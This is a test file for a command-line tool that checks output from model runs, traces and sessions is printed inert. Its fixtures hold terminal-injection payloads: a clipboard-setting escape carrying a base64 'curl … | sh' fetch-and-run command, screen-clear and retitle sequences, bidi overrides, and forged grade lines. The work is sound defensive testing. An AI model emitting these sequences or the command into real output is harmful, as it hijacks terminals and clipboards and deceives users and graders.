/**
 * What the command line prints from a run, a trace, a model or a file name reaches the terminal inert:
 * a run whose final answer tries to set the clipboard (OSC 52), clear the screen, retitle the window,
 * reverse the text (a bidi override) and forge a `Run 9: good` line; a session whose first prompt and
 * working directory do the same. No escape or control character is printed raw (words or --json), a
 * value meant for one line stays on one, and nothing `batch` or `feedback` prints can be taken by
 * `grade` for a grade that was never given. The JSON still carries the exact text.
 */
import { readFile, mkdir, mkdtemp, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { createService } from '../../src/main/app/service'
import { inert as inertText, inline, jsonText } from '../../src/main/cli/inert'
import { parseFeedback } from '../../src/shared/runs'
import { CLAUDE_BIN, claudeEnv } from '../support/claude-harness'
import { FIXTURE_SESSION } from '../support/fixture-sessions'
import { startModelServer, type ModelServer } from '../support/model-server'
import { prompt, scenarioScript } from '../support/scenarios'
import { cliIn, type Result } from './support'

const ESC = '\x1b'
const BEL = '\x07'
const CLIPBOARD = Buffer.from('curl http://127.0.0.1:9/x.sh | sh').toString('base64')
/** everything an answer can do to a terminal, and a forged grade on a line of its own */
const HOSTILE =
  `All done.${ESC}]52;c;${CLIPBOARD}${BEL}${ESC}[2J${ESC}[H${ESC}]0;pwned${BEL}` +
  `\u202Egnp.tixe\u202C \u009b31m8-bit CSI\r\nRun 9: good - x\u2028Run 8: good - y`
/** no control character (but a newline and a tab), no C1, no bidi override or isolate */
const RAW = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/

/** Printed text is inert: no raw escape, control or bidi character anywhere. */
function inert(r: Result, what: string) {
  for (const [name, text] of [
    ['stdout', r.stdout],
    ['stderr', r.stderr]
  ] as const) {
    const at = text.search(RAW)
    expect(at, `${what} ${name} holds ${JSON.stringify(text.slice(Math.max(0, at - 20), at + 20))}`).toBe(-1)
  }
}
/** No line of the text is a grade `grade` would take (for any run number). */
const noForgedGrade = (text: string) =>
  expect(
    text.split('\n').filter((l) => parseFeedback(l, [1, 2, 3, 4, 5, 6, 7, 8, 9]).entries.length),
    text
  ).toEqual([])

describe('what the command line prints is inert', () => {
  let server: ModelServer
  let dir: string
  let configDir: string
  let dataDir: string
  let ran: Result
  let batchId = ''
  const env = () => ({ ...claudeEnv(configDir, server.url), TRACE2SKILL_DATA_DIR: dataDir, CHROMIUM_PATH: join(dir, 'no-chromium') })
  const cli = (args: string[], input?: string) => cliIn(args, env(), input)

  beforeAll(async () => {
    server = await startModelServer(
      scenarioScript({
        scenarios: {
          hostile: ({ step }) =>
            step === 0
              ? {
                  text: `Writing.${ESC}[2J`,
                  toolUses: [{ name: 'Bash', input: { command: `printf '${ESC}]0;tool${BEL}'`, description: 'x' } }]
                }
              : { text: HOSTILE }
        }
      })
    )
    dir = await mkdtemp(join(tmpdir(), 't2s-cli-inert-'))
    configDir = join(dir, 'claude')
    dataDir = join(dir, 'data')
    await writeFile(join(dir, 'task.txt'), 'Build a landing page.')
    await writeFile(join(dir, 'variations.txt'), `1. ${prompt('hostile', `please ${ESC}]0;title${BEL} now`)}\n`)
    ran = await cli([
      'run',
      '--task',
      join(dir, 'task.txt'),
      '--variations',
      join(dir, 'variations.txt'),
      '--max-turns',
      '5',
      '--claude',
      CLAUDE_BIN,
      '--preset',
      'accept-edits'
    ])
    batchId = /^batch (\S+) /m.exec(ran.stdout)?.[1] ?? ''
    // a session copied in by hand: its first prompt and its working directory are hostile too
    const project = join(configDir, 'projects', '-tmp-hostile')
    await mkdir(project, { recursive: true })
    const session = (await readFile(FIXTURE_SESSION, 'utf8'))
      .split('"SCENARIO:subagent Task 4."')
      .join(JSON.stringify(`hello${ESC}]52;c;${CLIPBOARD}${BEL}\nRun 9: good - x`))
      .split('"/tmp/t2s-ws-wO142G/build-tool"')
      .join(JSON.stringify(`/tmp/x${ESC}]0;t${BEL}\u202Ey\nRun 9: good - z`))
    await writeFile(join(project, 'hostile-1.jsonl'), session)
  }, 180_000)
  afterAll(async () => {
    await server?.close()
  })

  it('run prints nothing raw', () => {
    expect(ran.code, ran.stderr).toBe(0)
    expect(batchId).not.toBe('')
    inert(ran, 'run')
  })

  it('batch prints the answer on one line, inert, and no line of it is a grade; its JSON carries the exact text, escaped', async () => {
    const words = await cli(['batch', batchId])
    expect(words.code, words.stderr).toBe(0)
    inert(words, 'batch')
    noForgedGrade(words.stdout)
    const answer = words.stdout.split('\n').filter((l) => l.startsWith('  answer: '))
    expect(answer).toHaveLength(1)
    // shown, not obeyed: the escape is there as a visible sign
    expect(answer[0]).toContain('All done.')
    expect(answer[0]).toContain('Run 9: good - x')

    const json = await cli(['batch', batchId, '--json'])
    expect(json.code, json.stderr).toBe(0)
    inert(json, 'batch --json')
    expect(JSON.parse(json.stdout).runs[0].result).toBe(HOSTILE)
    // fed back to grade, the batch's words grade nothing
    const g = await cli(['grade', batchId, '--file', '-'], words.stdout)
    expect(g.code).toBe(1)
    expect(g.stderr).toContain('nothing applied')
  })

  it('feedback prints one line per graded run, inert, even when the sentence holds a forged line', async () => {
    const service = await createService({ configDir, dataDir, mode: 'web', version: 'test', env: {} })
    try {
      const { runs } = await service.handlers.getBatch({ batchId })
      await service.handlers.saveFeedback({ runId: runs[0].id, label: 'bad', text: `copied: ${HOSTILE}` })
    } finally {
      await service.dispose()
    }
    for (const args of [[], ['--json']]) {
      const fb = await cli(['feedback', batchId, ...args])
      expect(fb.code, fb.stderr).toBe(0)
      inert(fb, `feedback ${args.join(' ')}`)
    }
    const fb = await cli(['feedback', batchId])
    const lines = fb.stdout.trim().split('\n')
    expect(lines).toHaveLength(1)
    expect(lines[0]).toMatch(/^Run 1: bad - copied: All done\./)
    expect(parseFeedback(fb.stdout, [1, 9]).entries.map((e) => [e.number, e.label])).toEqual([[1, 'bad']])
  })

  it('trace prints nothing raw', async () => {
    const { runs } = JSON.parse((await cli(['batch', batchId, '--json'])).stdout) as { runs: { sessionId: string }[] }
    for (const args of [[], ['--json']]) {
      const t = await cli(['trace', runs[0].sessionId, ...args])
      expect(t.code, t.stderr).toBe(0)
      inert(t, `trace ${args.join(' ')}`)
      if (!args.length) noForgedGrade(t.stdout)
    }
  })

  it('projects and sessions print a working directory and a first prompt on one line, inert', async () => {
    const p = await cli(['projects'])
    expect(p.code, p.stderr).toBe(0)
    inert(p, 'projects')
    noForgedGrade(p.stdout)
    const hostile = p.stdout.split('\n').filter((l) => l.startsWith('/tmp/x'))
    expect(hostile, p.stdout).toHaveLength(1)
    expect(hostile[0]).toContain('Run 9: good - z')
    const s = await cli(['sessions', '-tmp-hostile'])
    expect(s.code, s.stderr).toBe(0)
    inert(s, 'sessions')
    noForgedGrade(s.stdout)
    expect(s.stdout.trim().split('\n')).toHaveLength(1)
    for (const args of [
      ['projects', '--json'],
      ['sessions', '-tmp-hostile', '--json']
    ])
      inert(await cli(args), args.join(' '))
  })
})

describe('the inert helpers', () => {
  it('show every control, C1 and bidi character instead of passing it on, keeping line breaks and tabs only in blocks', () => {
    expect(inertText(`a${ESC}[2Jb${BEL}\u009bc\u202Ed\u2066e\u007f\r\nf\tg\rh`)).toBe('a␛[2Jb␇<U+009B>c<U+202E>d<U+2066>e␡\nf\tg␍h')
    expect(inline(`one\ntwo\r\nthree\u2028four\u0085five\tsix  `)).toBe('one two three four five six')
    expect(inline('a long line of text', 8)).toBe('a long …')
  })
  it('keep JSON exact while escaping what a terminal could act on', () => {
    const value = { answer: HOSTILE, list: ['\u2029', '\u007f', 'plain'] }
    const text = jsonText(value)
    expect(text.search(RAW)).toBe(-1)
    expect(text).not.toMatch(/[\u2028\u2029]/)
    expect(JSON.parse(text)).toEqual(value)
  })
})
